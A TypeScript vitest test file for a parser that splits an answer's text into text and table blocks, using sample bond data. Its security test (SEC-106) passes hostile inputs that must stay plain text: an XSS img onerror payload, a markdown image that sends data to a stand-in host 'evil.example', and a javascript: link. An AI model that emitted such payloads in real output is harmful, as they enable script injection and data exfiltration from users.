import { describe, expect, it, test } from 'vitest';
import { answerBlocks, hasOnlyFigures, staysOnOneLine } from './answer-blocks.ts';

describe('an answer', () => {
  it('is text, line by line, except for its tables', () => {
    expect(answerBlocks('Two bonds:\n| ISIN | YTM |\n|---|--:|\n| A1 | 2.37% |\n| B2 | 4.50% |\nThat is all.')).toEqual([
      { kind: 'text', text: 'Two bonds:' },
      { kind: 'table', header: ['ISIN', 'YTM'], rows: [['A1', '2.37%'], ['B2', '4.50%']] },
      { kind: 'text', text: 'That is all.' },
    ]); // prettier-ignore
  });

  test.each([
    ['<img src=x onerror=alert(1)>'],
    ['![x](https://evil.example/?d=1) [a](javascript:alert(1))'],
    ['| one line alone |'],
    ['| A | B |\n| rows of other widths |'],
    [`${'| a '.repeat(13)}|\n${'| b '.repeat(13)}|`],
    ['# Title\n**bold** `code` <b>x</b>'],
  ])('in any other form stays text (SEC-106): %s', (text) => {
    expect(answerBlocks(text)).toEqual([{ kind: 'text', text }]);
  });
});

test('columns of figures are distinguished from columns of words', () => {
  expect(hasOnlyFigures(['2.37%', '−1 234,50 EUR', '–'])).toBe(true);
  expect(hasOnlyFigures(['BG2040019213', '2.37%'])).toBe(false);
  expect(hasOnlyFigures(['–', ''])).toBe(false);
});

test.each([
  [['BG2030026111', 'US0378331AA1'], true],
  [['12 Dec 2025', '3 May 2026', '–'], true],
  [['12.12.2025\u00a0г.', '1.08.2025\u00a0г.'], true],
  [['30 Sept 2031'], true],
  [['УниКредит Булбанк', '–'], false],
  [['Vanguard FTSE All-World'], false],
])('%o stays on one line: %s', (cells, stays) => {
  expect(staysOnOneLine(cells)).toBe(stays);
});
